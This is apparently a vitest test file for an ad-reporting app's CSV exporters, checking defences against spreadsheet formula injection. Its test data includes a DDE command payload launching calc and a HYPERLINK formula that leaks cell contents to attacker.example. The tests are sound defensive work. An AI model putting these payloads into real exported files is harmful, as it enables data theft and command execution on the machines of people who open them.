import { describe, expect, it } from 'vitest';
import { csvCell, csvNumber, csvText, csvTextValue } from './csv.js';
import { listCsv, parseListText } from './kinds/lists.js';
import { financeCsv, reportCsv } from './stats/csv.js';
import { type FinanceAnswer } from './stats/dashboard.js';

/** Payloads that reached report files through an ad request's app bundle. */
const CALC = "-1+cmd|' /C calc'!A0";
const HYPERLINK = '-2-HYPERLINK("http://attacker.example/?leak="&A1,"click")';

/** The cells of one CSV line, RFC 4180 quotes undone (the cells a spreadsheet reads, before it evaluates any). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let at = 0;
  for (;;) {
    if (line[at] === '"') {
      let text = '';
      let i = at + 1;
      for (;;) {
        const q = line.indexOf('"', i);
        if (line[q + 1] === '"') {
          text += line.slice(i, q + 1);
          i = q + 2;
        } else {
          text += line.slice(i, q);
          at = q + 1;
          break;
        }
      }
      cells.push(text);
    } else {
      const end = line.indexOf(',', at);
      cells.push(line.slice(at, end < 0 ? line.length : end));
      at = end < 0 ? line.length : end;
    }
    if (at >= line.length) return cells;
    at++;
  }
}

/** Whether a spreadsheet would read the cell as a formula. */
const formulaLike = (cell: string) => /^[=+\-@\t\r\0]/.test(cell);

describe('CSV cells', () => {
  it('neutralises every text cell a spreadsheet would read as a formula, whatever follows (OWASP CSV injection)', () => {
    const cases: [string, string][] = [
      ['=1+1', `"'=1+1"`],
      ['+1+1', `"'+1+1"`],
      ['-1+1', `"'-1+1"`],
      ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
      ['=HYPERLINK("http://x.example","a")', `"'=HYPERLINK(""http://x.example"",""a"")"`],
      ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
      ['-1', `"'-1"`],
      ['+33 1 23 45 67 89', `"'+33 1 23 45 67 89"`],
      ['-', `"'-"`],
      [CALC, `"'${CALC}"`],
      [HYPERLINK, `"'${HYPERLINK.replaceAll('"', '""')}"`],
    ];
    for (const [text, cell] of cases) {
      expect(csvText(text), text).toBe(cell);
      expect(csvCell(text), text).toBe(cell);
      const [read] = cellsOf(cell);
      expect(cellsOf(cell)).toHaveLength(1);
      expect(formulaLike(read!), text).toBe(false);
      expect(csvTextValue(read!)).toBe(text);
    }
  });

  it('quotes text that holds a separator, a quote or a line break, and leaves plain text as it is', () => {
    expect(csvText('Sports, live')).toBe('"Sports, live"');
    expect(csvText('a;=1+1')).toBe('"a;=1+1"');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    expect(csvText('two\nlines')).toBe('"two\nlines"');
    expect(csvText('com.example.app')).toBe('com.example.app');
    expect(csvText('2026-11-01')).toBe('2026-11-01');
    expect(csvText('123456789')).toBe('123456789');
    expect(csvText('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes numbers as numbers, never as text', () => {
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(0)).toBe('0');
    expect(csvNumber(-1_234.5, 2)).toBe('-1234.50');
    expect(csvNumber(Number.NaN)).toBe('');
    expect(csvNumber(Number.POSITIVE_INFINITY)).toBe('');
  });
});

describe('exports', () => {
  it('neutralises text dimensions of a report, even when they look like numbers, and keeps metrics numbers', () => {
    const csv = reportCsv(
      ['app_bundle', 'domain', 'channel'],
      ['imps', 'profit'],
      [
        { app_bundle: CALC, domain: HYPERLINK, channel: 3, channel_name: '=Sports', imps: 10, profit: -1_500_000 },
        { app_bundle: '-1', domain: '@example.com', channel: 4, channel_name: '+Live', imps: 2, profit: 250_000 },
        {
          app_bundle: 'com.example.tv',
          domain: 'news.example.org',
          channel: 5,
          channel_name: 'News',
          imps: 1,
          profit: 0,
        },
        { total: true, imps: 13, profit: -1_250_000 },
      ],
    );
    const lines = csv.trimEnd().split('\n').map(cellsOf);
    expect(lines[0]).toEqual(['App Bundle', 'Domain', 'Channel Id', 'Channel', 'Impressions', 'Profit']);
    expect(lines[1]).toEqual([`'${CALC}`, `'${HYPERLINK}`, '3', "'=Sports", '10', '-1.50']);
    expect(lines[2]).toEqual(["'-1", "'@example.com", '4', "'+Live", '2', '0.25']);
    expect(lines[3]).toEqual(['com.example.tv', 'news.example.org', '5', 'News', '1', '0.00']);
    expect(lines[4]).toEqual(['Total', '', '', '', '13', '-1.25']);
    // the negative metrics are bare numbers, the text cells that look like them quoted
    expect(csv.split('\n')[1]!.endsWith(',10,-1.50')).toBe(true);
    expect(csv.split('\n')[2]!.startsWith(`"'-1",`)).toBe(true);
  });

  it('writes the finance export through the same rule: names are text, prices, counts and offsets numbers', () => {
    const answer: FinanceAnswer = {
      month: '2026-11',
      rows: [
        {
          tenantId: 1,
          name: HYPERLINK,
          timezone: -5,
          priceReq: 10_000,
          priceImp: 50_000,
          pricePostbid: 0,
          priceDsp: 10,
          reqs: 1000,
          imps: 100,
          postbidImps: 0,
          revenue: 2_500_000,
          systemCost: 1_234_567,
        },
      ],
      totals: { reqs: 1000, imps: 100, postbidImps: 0, revenue: 2_500_000, systemCost: 1_234_567 },
    };
    const lines = financeCsv(answer).trimEnd().split('\n').map(cellsOf);
    expect(lines[1]).toEqual([
      `'${HYPERLINK}`,
      '-5',
      '0.01',
      '0.05',
      '0.00',
      '10.00',
      '1000',
      '100',
      '0',
      '2.50',
      '1.23',
    ]);
    expect(lines[2]).toEqual(['Total', '', '', '', '', '', '1000', '100', '0', '2.50', '1.23']);
    expect(lines.flat().filter((c) => formulaLike(c) && !/^-\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it('writes list downloads through the same rule, and reads them back as the entries they hold', () => {
    const items = ['-1-1', 'cr-1001', '-a1', 'brand.example.com'];
    const csv = listCsv(items);
    expect(csv).toBe(`"'-1-1"\ncr-1001\n"'-a1"\nbrand.example.com\n`);
    expect(parseListText('crelists', csv)).toMatchObject({ items, invalid: [] });
  });
});
